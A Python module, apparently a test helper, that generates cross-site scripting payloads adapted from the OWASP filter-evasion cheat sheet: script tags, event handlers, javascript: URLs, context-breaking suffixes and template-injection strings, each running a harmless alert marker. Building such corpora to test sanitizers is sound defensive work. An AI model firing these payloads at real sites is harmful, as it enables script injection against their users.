"""Texts that would run as scripts, draw or ask for something, were they taken for markup; each marks the window.

After the OWASP "XSS Filter Evasion Cheat Sheet" and the HTML standard's own list of places where scripts start, in
words of our own. `MARK` is run where one works: it sets a flag, opens a dialog and asks for a file.
"""

import itertools

MARK = "window.marked=1;alert(1);fetch('mark.txt')"

_TAGS = [
    "<script>{mark}</script>", "<SCRIPT >{mark}</SCRIPT >", "<scr<script>ipt>{mark}</scr</script>ipt>",
    "<script/x>{mark}</script>", "<script src=mark.js></script>", "<script type=module>{mark}</script>",
    "<img src=x onerror=\"{mark}\">", "<img/src=x/onerror={mark}>", "<IMG SRC=x OnErRoR='{mark}'>",
    "<img src=mark.png>", "<img srcset='mark.png 1x'>", "<svg onload=\"{mark}\">", "<svg/onload={mark}>",
    "<svg><script>{mark}</script></svg>", "<svg><animate onbegin=\"{mark}\" attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:{mark}\"><text>x</text></a></svg>", "<svg><use href=mark.svg#a></use></svg>",
    "<body onload=\"{mark}\">", "<input autofocus onfocus=\"{mark}\">", "<select autofocus onfocus=\"{mark}\">",
    "<textarea autofocus onfocus=\"{mark}\">", "<details open ontoggle=\"{mark}\"><summary>x</summary></details>",
    "<video><source onerror=\"{mark}\"></video>", "<audio src=x onerror=\"{mark}\">", "<video poster=mark.png>",
    "<marquee onstart=\"{mark}\">x</marquee>", "<iframe src=\"javascript:{mark}\"></iframe>",
    "<iframe srcdoc=\"<script>parent.{mark}</script>\"></iframe>", "<object data=\"javascript:{mark}\"></object>",
    "<embed src=\"javascript:{mark}\">", "<a href=\"javascript:{mark}\">x</a>", "<form action=\"javascript:{mark}\">",
    "<button formaction=\"javascript:{mark}\">x</button>", "<isindex action=\"javascript:{mark}\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:{mark}\">",
    "<meta http-equiv=refresh content='0;url=mark.html'>",
    "<base href=\"javascript:{mark}//\">", "<link rel=stylesheet href=mark.css>", "<link rel=prefetch href=mark.txt>",
    "<style>@import 'mark.css';</style>", "<style>body{{background:url(mark.png)}}</style>",
    "<div style=\"background:url(mark.png)\">x</div>", "<math><mtext><img src=x onerror=\"{mark}\"></mtext></math>",
    "<math href=\"javascript:{mark}\">x</math>", "<template><script>{mark}</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={mark}>\">",
    "<xmp><p title=\"</xmp><img src=x onerror={mark}>\">",
    "<title><img title=\"</title><img src=x onerror={mark}>\">", "<p onmouseover=\"{mark}\">x</p>",
    "<p id=x tabindex=1 onfocus=\"{mark}\">x</p>", "<dialog open onclose=\"{mark}\">x</dialog>",
    "<portal src=mark.html></portal>", "<frameset onload=\"{mark}\">", "<table background=mark.png>",
]  # fmt: skip
_ENDS = [
    "", "</script>", "</script><!--", "--></script>", "<!--<script>", "]]>", "\"}}</script>", "'>", "\">", "`", "*/",
    "\\u003c/script\\u003e", "&lt;/script&gt;", "</style>", "</title>", "</textarea>", "</noscript>",
    "\u2028", "%3E", "\x00",
]  # fmt: skip
_CODE = [
    "javascript:{mark}", "JaVaScRiPt:{mark}", "java\tscript:{mark}", "\x01javascript:{mark}", " javascript:{mark}",
    "data:text/html,<script>{mark}</script>", "vbscript:{mark}", "http://x/\"onmouseover=\"{mark}",
    "https:javascript:{mark}",
    "{{{{constructor.constructor('{mark}')()}}}}", "{{% raw %}}{mark}", "${{{mark}}}", "{{{{ self.__init__ }}}}",
    "datum.constructor.constructor('{mark}')()", "'];{mark};['", "\"}}]}};{mark};//", "__proto__", "constructor",
    "toString", "\\\");{mark};//", "&#x3c;script&#x3e;{mark}", "&#106avascript:{mark}", "\u202e<script>{mark}</script>",
]  # fmt: skip


def payloads(count):
    """Return so many different ones: first each as it is, then each behind what may end the place it stands in."""
    found = (end + start for end in _ENDS for start in ([*_TAGS, *_CODE] if end == "" else _TAGS))
    return [text.format(mark=MARK) for text in itertools.islice(found, count)]
